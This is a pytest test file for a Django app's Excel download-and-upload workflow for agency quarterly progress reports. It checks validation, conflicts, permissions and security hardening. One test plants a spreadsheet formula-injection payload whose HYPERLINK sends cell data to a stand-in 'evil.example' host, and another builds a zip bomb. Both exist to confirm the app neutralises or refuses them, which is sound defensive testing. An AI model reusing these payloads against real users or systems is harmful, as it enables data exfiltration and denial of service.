"""The Excel round-trip: download a pre-filled workbook, fill it, upload it back (sixcore/progress/excel/)."""

from __future__ import annotations

import io
import zipfile
from datetime import date
from decimal import Decimal

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from sixcore.accounts.models import Agency
from sixcore.progress import excel
from sixcore.progress.models import KPIReport, MeasureReport, Submission, WorkItemReport
from sixcore.progress.services import save_lines
from tests.factories import editor, ndc_admin, open_period, viewer

pytestmark = pytest.mark.django_db

DOWNLOAD = reverse("progress:excel_download")
UPLOAD = reverse("progress:excel_upload")


@pytest.fixture(autouse=True)
def open_111q2(monkeypatch):
    monkeypatch.setenv("SIXCORE_AS_OF", "2022-07-05")


@pytest.fixture
def period():
    return open_period("111Q2")


@pytest.fixture
def moea():
    return Agency.objects.get(code="moea")


@pytest.fixture
def moea_editor():
    return editor("moea")


def login(user) -> Client:
    client = Client()
    client.force_login(user)  # django-axes refuses login() without a request
    return client


def versions(period, agency) -> dict[int, int]:
    return dict(Submission.objects.filter(period=period, agency=agency).values_list("pk", "version"))


def row_of(ws, sheet_keys: tuple[str, ...]) -> int:
    """The row whose leading key columns equal ``sheet_keys``."""
    for row in range(excel.FIRST_DATA_ROW, ws.max_row + 1):
        if tuple(str(ws.cell(row, c + 1).value) for c in range(len(sheet_keys))) == sheet_keys:
            return row
    raise AssertionError(f"no row {sheet_keys} in {ws.title}")


def column(ws, header: str) -> int:
    return next(c.column for c in ws[excel.HEADER_ROW] if c.value == header)


def edit(data: bytes, edits: list[tuple[str, tuple[str, ...], str, object]]) -> bytes:
    """Apply ``(sheet, row keys, header, value)`` edits, as an agency would in Excel."""
    wb = load_workbook(io.BytesIO(data))
    for sheet, keys, header, value in edits:
        ws = wb[sheet]
        ws.cell(row_of(ws, keys), column(ws, header)).value = value
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def cells_of(data: bytes, wanted: list[tuple[str, tuple[str, ...], str]]) -> list[tuple[str, str]]:
    """(sheet, "H7") of each ``(sheet, row keys, header)``, from one reading of the workbook."""
    wb = load_workbook(io.BytesIO(data))
    found = []
    for sheet, keys, header in wanted:
        ws = wb[sheet]
        found.append((sheet, f"{ws.cell(1, column(ws, header)).column_letter}{row_of(ws, keys)}"))
    return found


def cell_of(data: bytes, sheet: str, keys: tuple[str, ...], header: str) -> str:
    return cells_of(data, [(sheet, keys, header)])[0][1]


def first_lines(period, agency):
    """Some lines of moea's industry-1 submission to fill in."""
    submission = Submission.objects.get(period=period, agency=agency, industry__code="1")
    measure = submission.measure_reports.select_related("measure").first()
    kpi = submission.kpi_reports.select_related("kpi__measure").first()
    works = list(submission.work_item_reports.select_related("work_item__schedule")[:2])
    return submission, measure, kpi, works


def wkey(report) -> str:
    return f"{report.work_item.schedule.code}/{report.work_item.code}"


def filled(data, measure, kpi, works) -> bytes:
    return edit(
        data,
        [
            ("辦理情形", ("1", measure.measure.code), "辦理情形", "完成第一期研發補助審查 3 件"),
            ("績效指標", ("1", kpi.kpi.measure.code, kpi.kpi.code), "實績值", 2.5),
            ("績效指標", ("1", kpi.kpi.measure.code, kpi.kpi.code), "是否達成", "是"),
            ("績效指標", ("1", kpi.kpi.measure.code, kpi.kpi.code), "佐證說明", "見附件一"),
            ("重點工作", ("1", wkey(works[0])), "實際進度(%)", 100),
            ("重點工作", ("1", wkey(works[0])), "狀態", "已完成"),
            ("重點工作", ("1", wkey(works[0])), "完成日期", "111/4/30"),
            ("重點工作", ("1", wkey(works[1])), "實際進度(%)", 10),
            ("重點工作", ("1", wkey(works[1])), "狀態", "落後"),
            ("重點工作", ("1", wkey(works[1])), "落後原因", "廠商投標不足"),
            ("重點工作", ("1", wkey(works[1])), "因應對策", "重新公告招標"),
            ("經費", ("1", measure.measure.code), "單位", "千元"),
            ("經費", ("1", measure.measure.code), "已分配數", 12000),
            ("經費", ("1", measure.measure.code), "已執行數", 8000.5),
        ],
    )


def test_round_trip_writes_the_values_and_only_bumps_changed_submissions(period, moea, moea_editor):
    client = login(moea_editor)
    response = client.get(DOWNLOAD, {"period": "111Q2"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    data = response.content
    wb = load_workbook(io.BytesIO(data))
    assert wb.sheetnames == ["說明", "辦理情形", "績效指標", "重點工作", "經費", "追蹤事項", "_meta"]
    assert wb["_meta"].sheet_state == "veryHidden"
    kpis = wb["績效指標"]
    assert kpis.protection.sheet and kpis.freeze_panes == "D3"
    assert kpis["A3"].protection.locked and not kpis["H3"].protection.locked
    assert any('"是,否"' == dv.formula1 for dv in kpis.data_validations.dataValidation)
    assert any(
        dv.type == "decimal" and dv.formula2 == "100" for dv in wb["重點工作"].data_validations.dataValidation
    )

    submission, measure, kpi, works = first_lines(period, moea)
    before = versions(period, moea)
    response = client.post(UPLOAD, {"file": io.BytesIO(filled(data, measure, kpi, works))})
    assert response.status_code == 200, response.content.decode()
    assert "上傳成功" in response.content.decode()

    after = versions(period, moea)
    assert after[submission.pk] == before[submission.pk] + 1
    assert {k: v for k, v in after.items() if k != submission.pk} == {
        k: v for k, v in before.items() if k != submission.pk
    }
    measure.refresh_from_db()
    kpi.refresh_from_db()
    assert measure.progress == "完成第一期研發補助審查 3 件"
    assert kpi.value == Decimal("2.5") and kpi.done is True and kpi.evidence == "見附件一"
    done, lagging = (WorkItemReport.objects.get(pk=w.pk) for w in works)
    assert (done.percent, done.status, done.completed_on) == (Decimal(100), "done", date(2022, 4, 30))
    assert (lagging.status, lagging.lag_reason, lagging.remedy) == ("lagging", "廠商投標不足", "重新公告招標")
    budget = submission.budget_reports.get(measure=measure.measure)
    assert (budget.unit, budget.allocated, budget.executed) == ("千元", Decimal(12000), Decimal("8000.5"))


def test_reupload_is_idempotent(period, moea, moea_editor):
    submission, measure, kpi, works = first_lines(period, moea)
    data = filled(excel.build_workbook(period, moea, moea_editor), measure, kpi, works)
    first = excel.import_workbook(data, moea_editor)
    assert first.ok and [o.submission_id for o in first.changed] == [submission.pk]
    after_first = versions(period, moea)

    # The same downloaded file again: its versions are now stale, but it changes nothing, so it is a no-op.
    again = excel.import_workbook(data, moea_editor)
    assert again.ok, again.problems
    assert again.changed == [] and len(again.unchanged) == len(after_first)
    assert versions(period, moea) == after_first

    # A fresh download uploaded untouched is a no-op too.
    fresh = excel.import_workbook(excel.build_workbook(period, moea, moea_editor), moea_editor)
    assert fresh.ok and fresh.changed == []
    assert versions(period, moea) == after_first


def test_errors_in_several_cells_are_all_reported_and_nothing_is_written(period, moea, moea_editor):
    submission, measure, kpi, works = first_lines(period, moea)
    kpi2 = submission.kpi_reports.select_related("kpi__measure")[1]
    kpi3 = submission.kpi_reports.select_related("kpi__measure")[2]
    kpi4 = submission.kpi_reports.select_related("kpi__measure")[3]
    others = (
        KPIReport.objects.filter(submission__period=period, submission__industry__code="1")
        .exclude(submission__agency=moea)
        .exclude(kpi__code__in=submission.kpi_reports.values("kpi__code"))
        .select_related("kpi__measure", "submission__agency")
    )
    foreign = others.first()
    data = excel.build_workbook(period, moea, moea_editor)
    k2 = ("1", kpi2.kpi.measure.code, kpi2.kpi.code)
    k3 = ("1", kpi3.kpi.measure.code, kpi3.kpi.code)
    k4 = ("1", kpi4.kpi.measure.code, kpi4.kpi.code)
    w0 = ("1", wkey(works[0]))
    w1 = ("1", wkey(works[1]))
    where = cells_of(
        data,
        [
            ("績效指標", k2, "實績值"),
            ("重點工作", w0, "實際進度(%)"),
            ("績效指標", k3, "指標代碼"),
            ("重點工作", w1, "落後原因"),
            ("重點工作", w1, "因應對策"),
            ("績效指標", k4, "指標代碼"),
        ],
    )
    messages = ["不是數字", "0 到 100", "未知的指標代碼", "落後原因", "因應對策", "屬於其他機關"]
    expected = dict(zip(where, messages, strict=True))
    bad = edit(
        data,
        [
            ("辦理情形", ("1", measure.measure.code), "辦理情形", "這段不該被寫入"),  # a valid change
            ("績效指標", k2, "實績值", "約 3 件"),
            ("重點工作", w0, "實際進度(%)", 120),
            ("績效指標", k3, "指標代碼", "9.9.9"),
            ("重點工作", w1, "實際進度(%)", 5),
            ("重點工作", w1, "狀態", "落後"),
        ],
    )
    # The KPI of another agency: rewrite the key cells of a row (protection is no obstacle to a determined user).
    wb = load_workbook(io.BytesIO(bad))
    ws = wb["績效指標"]
    row = row_of(ws, k4)
    ws.cell(row, 2).value, ws.cell(row, 3).value = foreign.kpi.measure.code, foreign.kpi.code
    out = io.BytesIO()
    wb.save(out)
    before = versions(period, moea)

    result = excel.import_workbook(out.getvalue(), moea_editor)

    assert not result.ok
    found = {(p.sheet, p.cell): p.message for p in result.problems}
    for place, text in expected.items():
        assert place in found, (place, result.problems)
        assert text in found[place]
    assert foreign.submission.agency.name in found[where[-1]]
    assert versions(period, moea) == before
    measure.refresh_from_db()
    assert measure.progress == ""
    assert not WorkItemReport.objects.filter(submission__period=period, status="lagging").exists()


def test_locked_period_is_refused(period, moea, moea_editor, monkeypatch):
    submission, measure, kpi, works = first_lines(period, moea)
    data = filled(excel.build_workbook(period, moea, moea_editor), measure, kpi, works)
    monkeypatch.setenv("SIXCORE_AS_OF", "2022-09-01")  # due 111/7/15 + 7 grace days
    before = versions(period, moea)
    result = excel.import_workbook(data, moea_editor)
    assert not result.ok
    assert any(p.sheet == "說明" and p.cell == "B2" and "鎖定" in p.message for p in result.problems)
    assert versions(period, moea) == before


def test_stale_version_is_refused_as_a_conflict(period, moea, moea_editor):
    submission, measure, kpi, works = first_lines(period, moea)
    data = filled(excel.build_workbook(period, moea, moea_editor), measure, kpi, works)
    # A colleague edits the same submission on the web after the download.
    save_lines(
        submission, moea_editor, submission.version, {"kpis": {kpi.kpi.code: {"note": "網頁上的修改"}}}
    )
    before = versions(period, moea)
    result = excel.import_workbook(data, moea_editor)
    assert not result.ok
    [problem] = result.problems
    assert problem.sheet == "說明" and problem.cell.startswith("A") and "已被修改" in problem.message
    assert versions(period, moea) == before
    kpi.refresh_from_db()
    assert kpi.note == "網頁上的修改" and kpi.value is None


def test_version_moved_without_content_change_is_not_stale(period, moea, moea_editor):
    submission, measure, kpi, works = first_lines(period, moea)
    data = filled(excel.build_workbook(period, moea, moea_editor), measure, kpi, works)
    save_lines(submission, moea_editor, submission.version, {})  # a save without changes bumps the version
    assert excel.import_workbook(data, moea_editor).ok


def test_text_from_the_database_comes_out_inert(period, moea, moea_editor):
    submission, measure, kpi, works = first_lines(period, moea)
    payload = '=HYPERLINK("http://evil.example/?"&A1,"點我")'
    MeasureReport.objects.filter(pk=measure.pk).update(progress=payload, highlights="@SUM(1+1)")
    data = excel.build_workbook(period, moea, moea_editor)

    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert not any(
            b"<f>" in archive.read(n) or b"<f " in archive.read(n)
            for n in archive.namelist()
            if n.startswith("xl/worksheets/")
        )
    ws = load_workbook(io.BytesIO(data))["辦理情形"]
    cell = ws.cell(row_of(ws, ("1", measure.measure.code)), column(ws, "辦理情形"))
    assert cell.data_type == "s" and cell.value == "'" + payload
    # Uploading it back leaves the text as it was (the neutralising quote is not stored).
    result = excel.import_workbook(data, moea_editor)
    assert result.ok and result.changed == []
    measure.refresh_from_db()
    assert measure.progress == payload


def test_formula_in_an_input_cell_is_refused(period, moea, moea_editor):
    submission, measure, kpi, works = first_lines(period, moea)
    key = ("1", kpi.kpi.measure.code, kpi.kpi.code)
    data = excel.build_workbook(period, moea, moea_editor)
    result = excel.import_workbook(edit(data, [("績效指標", key, "實績值", "=1+1")]), moea_editor)
    assert not result.ok
    assert result.problems[0].sheet == "績效指標" and result.problems[0].cell == cell_of(
        data, "績效指標", key, "實績值"
    )
    assert "公式" in result.problems[0].message


def zip_bytes(entries: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
    return out.getvalue()


def test_non_xlsx_and_zip_bombs_are_refused(moea_editor, period):
    html = b"<html><body>not a workbook</body></html>"
    result = excel.import_workbook(html, moea_editor)
    assert not result.ok and "xlsx" in result.problems[0].message

    # 100 MB of zeros deflate to about 100 KB: refused from the zip directory, before inflating.
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", b"<Types/>")
        with archive.open("xl/workbook.xml", "w") as entry:
            chunk = b"\0" * (1 << 20)
            for _ in range(100):
                entry.write(chunk)
    assert len(out.getvalue()) < 1_000_000
    result = excel.import_workbook(out.getvalue(), moea_editor)
    assert not result.ok and "解壓縮後過大" in result.problems[0].message

    many = zip_bytes({f"x/{i}.xml": b"" for i in range(excel.MAX_ZIP_ENTRIES + 1)})
    result = excel.import_workbook(many, moea_editor)
    assert not result.ok and "項目過多" in result.problems[0].message

    broken = excel.import_workbook(
        zip_bytes({"[Content_Types].xml": b"<", "xl/workbook.xml": b"<"}), moea_editor
    )
    assert not broken.ok and "xlsx" in broken.problems[0].message

    # Through the view: an HTML page with the reason, status 400.
    response = login(moea_editor).post(UPLOAD, {"file": io.BytesIO(html)})
    assert response.status_code == 400 and "xlsx" in response.content.decode()


def test_another_agencys_user_cannot_upload_into_moea(period, moea, moea_editor):
    submission, measure, kpi, works = first_lines(period, moea)
    data = filled(excel.build_workbook(period, moea, moea_editor), measure, kpi, works)
    before = versions(period, moea)
    result = excel.import_workbook(data, editor("most"))
    assert not result.ok
    assert any(p.sheet == "說明" and "經濟部" in p.message for p in result.problems)
    assert versions(period, moea) == before
    measure.refresh_from_db()
    assert measure.progress == ""


def test_repeated_kpi_codes_are_written_to_their_own_lines(period, moea, moea_editor):
    # 6.2.2 is printed under 6.1 and under 6.2: rows are matched by measure and code, not code alone.
    submission = Submission.objects.get(period=period, agency=moea, industry__code="6")
    first, second = submission.kpi_reports.filter(kpi__code="6.2.2").order_by("kpi__measure__order")
    data = excel.build_workbook(period, moea, moea_editor)
    changed = edit(
        data,
        [
            ("績效指標", ("6", first.kpi.measure.code, "6.2.2"), "備註", "x"),
            ("績效指標", ("6", second.kpi.measure.code, "6.2.2"), "實績值", 7),
        ],
    )
    result = excel.import_workbook(changed, moea_editor)
    assert result.ok, result.problems
    first.refresh_from_db()
    second.refresh_from_db()
    assert (first.note, first.value, second.note, second.value) == ("x", None, "", Decimal(7))


def test_demo_submissions_are_marked_on_every_sheet(period, moea, moea_editor):
    Submission.objects.filter(period=period, agency=moea, industry__code="1").update(is_demo=True)
    wb = load_workbook(io.BytesIO(excel.build_workbook(period, moea, moea_editor)))
    for name in ("說明", "辦理情形", "績效指標", "重點工作", "經費"):
        assert "示範資料" in wb[name]["A1"].value


def test_download_permissions(period, moea):
    assert Client().get(DOWNLOAD, {"period": "111Q2"}).status_code == 302  # login required
    moea_viewer = login(viewer("moea"))
    assert moea_viewer.get(DOWNLOAD, {"period": "111Q2"}).status_code == 200
    assert moea_viewer.get(DOWNLOAD, {"period": "111Q2", "agency": "most"}).status_code == 403
    ndc = login(ndc_admin())
    response = ndc.get(DOWNLOAD, {"period": "111Q2", "agency": "moea"})
    assert response.status_code == 200 and "moea" in response["Content-Disposition"]
    assert ndc.get(DOWNLOAD, {"period": "111Q9", "agency": "moea"}).status_code == 404


def test_upload_needs_an_editor_and_a_csrf_token(period, moea, moea_editor):
    data = excel.build_workbook(period, moea, moea_editor)
    assert login(viewer("moea")).post(UPLOAD, {"file": io.BytesIO(data)}).status_code == 403
    strict = Client(enforce_csrf_checks=True)
    strict.force_login(moea_editor)
    assert strict.post(UPLOAD, {"file": io.BytesIO(data)}).status_code == 403
    page = strict.get(UPLOAD)
    assert page.status_code == 200 and "csrfmiddlewaretoken" in page.content.decode()


def test_import_queries_do_not_grow_with_the_number_of_lines(period, moea, moea_editor):
    """Lines are read in one query per kind and written in one statement per kind and changed fields."""
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    from sixcore.core.models import ObjectChange

    submission = Submission.objects.get(period=period, agency=moea, industry__code="1")
    codes = list(submission.measure_reports.values_list("measure__code", flat=True))
    assert len(codes) >= 3
    counts, logged = [], []
    for text, chosen in (("暖身", codes[:1]), ("只改一列", codes[:1]), ("每一列都改", codes)):
        data = edit(
            excel.build_workbook(period, moea, moea_editor),
            [("辦理情形", ("1", code), "辦理情形", text) for code in chosen],
        )
        before = ObjectChange.objects.count()
        with CaptureQueriesContext(connection) as queries:
            result = excel.import_workbook(data, moea_editor)
        assert result.ok and result.changed[0].fields_changed == len(chosen)
        counts.append(len(queries))
        logged.append(ObjectChange.objects.count() - before)
    assert counts[1] == counts[2]  # the first import also fills per-process caches
    assert logged[1:] == [1, len(codes)]  # one change-log entry per changed line


def _with_meta(data: bytes, cell: str, value: object) -> bytes:
    wb = load_workbook(io.BytesIO(data))
    wb[excel.SHEET_META][cell] = value
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


@pytest.mark.parametrize(
    ("cell", "value", "message"),
    [
        # The hidden sheet names another agency or period than its submissions belong to.
        ("B3", "most", "與系統不符"),
        ("B2", "111Q1", "與系統不符"),
        # Names nobody knows, or no period at all.
        ("B3", "no-such-agency", "無法辨識"),
        ("B2", "111Q9", "無法辨識"),
        ("B2", "九九", "無法辨識"),
    ],
)
def test_hidden_sheet_must_name_the_period_and_agency_of_its_submissions(
    period, moea, moea_editor, cell, value, message
):
    """The period and agency are taken from the locked submissions only when the file's codes match
    them; otherwise they are looked up, and an unknown or mismatched one refuses the whole file."""
    open_period("111Q1")
    _submission, measure, kpi, works = first_lines(period, moea)
    data = _with_meta(
        filled(excel.build_workbook(period, moea, moea_editor), measure, kpi, works), cell, value
    )
    before = versions(period, moea)
    result = excel.import_workbook(data, moea_editor)
    assert not result.ok and not result.changed
    assert any(message in p.message for p in result.problems), [p.as_dict() for p in result.problems]
    assert versions(period, moea) == before
    measure.refresh_from_db()
    assert measure.progress == ""


def test_hidden_sheet_may_name_the_period_in_gregorian_years(period, moea, moea_editor):
    _submission, measure, kpi, works = first_lines(period, moea)
    data = _with_meta(
        filled(excel.build_workbook(period, moea, moea_editor), measure, kpi, works), "B2", "2022Q2"
    )
    result = excel.import_workbook(data, moea_editor)
    assert result.ok and result.period == period and result.agency == moea
    measure.refresh_from_db()
    assert measure.progress == "完成第一期研發補助審查 3 件"
